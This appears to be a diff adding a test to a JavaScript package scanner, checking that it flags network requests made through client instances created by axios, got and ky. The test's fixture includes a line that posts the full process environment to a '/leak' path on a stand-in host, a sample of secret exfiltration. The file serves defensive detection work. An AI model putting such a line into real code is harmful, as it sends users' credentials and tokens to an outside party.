@@ -91,3 +91,21 @@ def test_a_postinstall_posting_the_environment_through_axios(tmp_path: Path) -> 
     got = {(a.type, a.severity.value, a.finding.file, a.finding.line) for a in package.alerts}
     assert {("installTimeNetwork", "high", "install.js", 2), ("exfiltration", "critical", "install.js", 2),
             ("installScripts", "high", "package.json", 1)} <= got
+
+
+def test_client_instances_made_by_the_clients_are_clients_too() -> None:
+    """`axios.create({baseURL})`, `got.extend()`, `ky.create()` hand out instances whose methods request."""
+    code = (b"const axios = require('axios');\n"
+            b"const c = axios.create({ baseURL: 'https://api.example.com' });\n"
+            b"c.post('/leak', { env: process.env });\n"
+            b"const got = require('got');\n"
+            b"got.extend({ prefixUrl: 'https://api.example.com' }).get('x');\n"
+            b"import ky from 'ky';\n"
+            b"const api = ky.create({ prefixUrl: 'https://api.example.com' });\n"
+            b"api.get('y');\n")
+    found = JavaScriptAnalyzer().analyze(SourceFile("index.mjs", code)).findings
+    assert {(f.kind, f.api, f.line, f.data_sources) for f in found} == {
+        (FindingKind.NETWORK, "axios.Axios.post", 3, ("env",)),
+        (FindingKind.NETWORK, "got.Got.get", 5, ()),
+        (FindingKind.NETWORK, "ky.Ky.get", 8, ()),
+    }
